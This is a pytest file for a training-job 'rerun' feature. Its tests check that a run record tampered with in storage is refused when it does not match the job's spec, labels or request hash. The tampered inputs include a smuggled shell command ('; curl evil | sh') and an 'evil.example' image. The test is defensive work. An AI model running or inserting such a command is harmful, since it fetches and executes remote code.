"""Issue 41, part 1: `rerun` trusts a run record (which the job's bucket holds, so the job can rewrite it)
only where it agrees with the job itself: its spec, labels and request-hash label. A planted command, a
changed service account or image, a package URI pointed elsewhere and a masked secret are each refused."""

from __future__ import annotations

import copy
import hashlib
from typing import Any

import pytest

from vertexdist.jobs.rerun_check import (
    MissingSecrets,
    RecordMismatch,
    check_against_job,
    package_to_restore,
    verified_request,
)
from vertexdist.render import JOB_FOLDER, REQUEST_HASH_LABEL, request_hash
from vertexdist.render.custom_job import with_job_folder
from vertexdist.render.secrets import MASK, mask_secrets, mask_values, secret_env

NAME = "projects/p/locations/l/trainingPipelines/123"
SHA = hashlib.sha256(b"sdist").hexdigest()
PACKAGE = f"gs://b/staging/vertexdist/packages/{SHA[:16]}/trainer-0.1.tar.gz"


def _sent() -> tuple[dict[str, Any], dict[str, Any]]:
    """(the request as rendered, hashed and sent with a job folder; the record kept of it)."""
    rendered: dict[str, Any] = {
        "parent": "projects/p/locations/l",
        "trainingPipeline": {
            "displayName": "job",
            "trainingTaskDefinition": "gs://google-cloud-aiplatform/schema/custom_task_1.0.0.yaml",
            "trainingTaskInputs": {
                "baseOutputDirectory": {"outputUriPrefix": f"gs://b/out/job/{JOB_FOLDER}"},
                "serviceAccount": "trainer@p.iam.gserviceaccount.com",
                "workerPoolSpecs": [
                    {
                        "replicaCount": "1",
                        "pythonPackageSpec": {
                            "executorImageUri": "us-docker.pkg.dev/vertex-ai/training/pytorch:latest",
                            "packageUris": [PACKAGE],
                            "pythonModule": "trainer.task",
                            "args": ["--epochs=3"],
                            "env": [{"name": "API_TOKEN", "value": "s3cr3t"}, {"name": "MODE", "value": "a"}],
                        },
                    }
                ],
            },
            "labels": {"team": "ml"},
        },
    }
    rendered["trainingPipeline"]["labels"][REQUEST_HASH_LABEL] = request_hash(rendered)
    sent = with_job_folder(rendered, "20260101-000000-abcdef")
    record = {
        "job": NAME,
        "request": sent,
        "package": {"uri": PACKAGE, "file": "trainer-0.1.tar.gz", "sha256": SHA, "size": 5},
        "template": {"path": None, "text": "..."},
    }
    return sent, mask_values(record, tuple(secret_env(sent).values()))


def _job(sent: dict[str, Any]) -> dict[str, Any]:
    """What the job's Get returns, as `describe` gives it (secret values masked)."""
    resource = sent["trainingPipeline"]
    return {
        "display_name": resource["displayName"],
        "labels": resource["labels"],
        "spec": mask_secrets(resource["trainingTaskInputs"]),
    }


def test_an_untouched_record_gives_back_the_request_the_job_was_sent() -> None:
    sent, record = _sent()
    again = verified_request(record, NAME, **_job(sent), secrets={"API_TOKEN": "s3cr3t"}, secrets_from="x")
    assert again == sent
    assert package_to_restore(record, sent["trainingPipeline"]["trainingTaskInputs"]) == (PACKAGE, SHA)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("args", ["--epochs=3", "; curl evil | sh"]),
        ("pythonModule", "planted.task"),
        ("executorImageUri", "evil.example/image:latest"),
    ],
)
def test_a_record_edited_in_the_bucket_is_refused_naming_the_field(field: str, value: Any) -> None:
    sent, record = _sent()
    record["request"]["trainingPipeline"]["trainingTaskInputs"]["workerPoolSpecs"][0]["pythonPackageSpec"][
        field
    ] = value
    with pytest.raises(RecordMismatch) as refused:
        verified_request(record, NAME, **_job(sent), secrets={"API_TOKEN": "s3cr3t"}, secrets_from="x")
    assert field in refused.value.message and "rerun sends nothing" in refused.value.message


def test_a_changed_service_account_is_refused_and_describe_sees_it() -> None:
    sent, record = _sent()
    record["request"]["trainingPipeline"]["trainingTaskInputs"]["serviceAccount"] = "owner@p.iam"
    found = check_against_job(record, NAME, **_job(sent))
    assert found and "serviceAccount" in found[0] and "owner@p.iam" in found[0]


def test_a_sibling_record_planted_under_this_job_is_refused() -> None:
    sent, record = _sent()
    record["job"] = "projects/p/locations/l/trainingPipelines/999"
    with pytest.raises(RecordMismatch, match="trainingPipelines/999"):
        verified_request(record, NAME, **_job(sent), secrets={"API_TOKEN": "s3cr3t"}, secrets_from="x")


def test_a_field_left_out_of_both_record_and_spec_still_fails_the_hash() -> None:
    """A record and spec that agree can still differ from what was sent (a removed field): the label's hash
    of the whole request catches it."""
    sent, record = _sent()
    del record["request"]["trainingPipeline"]["trainingTaskDefinition"]
    with pytest.raises(RecordMismatch, match=REQUEST_HASH_LABEL):
        verified_request(record, NAME, **_job(sent), secrets={"API_TOKEN": "s3cr3t"}, secrets_from="x")


def test_a_masked_secret_is_never_sent_the_user_is_told_which_is_missing() -> None:
    sent, record = _sent()
    with pytest.raises(MissingSecrets) as missing:
        verified_request(record, NAME, **_job(sent), secrets={}, secrets_from="your environment")
    assert "API_TOKEN" in missing.value.message and "your environment" in missing.value.message
    # A wrong value is not what the job was sent: the hash says so.
    with pytest.raises(RecordMismatch):
        verified_request(record, NAME, **_job(sent), secrets={"API_TOKEN": "guess"}, secrets_from="x")
    again = verified_request(record, NAME, **_job(sent), secrets={"API_TOKEN": "s3cr3t"}, secrets_from="x")
    assert MASK not in str(again)


def test_a_package_is_restored_only_where_the_job_names_it_and_with_its_digest() -> None:
    sent, record = _sent()
    spec = sent["trainingPipeline"]["trainingTaskInputs"]
    elsewhere = copy.deepcopy(record)
    elsewhere["package"]["uri"] = "gs://prod/important.txt"
    with pytest.raises(RecordMismatch, match=r"gs://prod/important\.txt"):
        package_to_restore(elsewhere, spec)
    other = copy.deepcopy(record)
    other["package"]["sha256"] = hashlib.sha256(b"planted").hexdigest()
    with pytest.raises(RecordMismatch, match="sha256"):
        package_to_restore(other, spec)
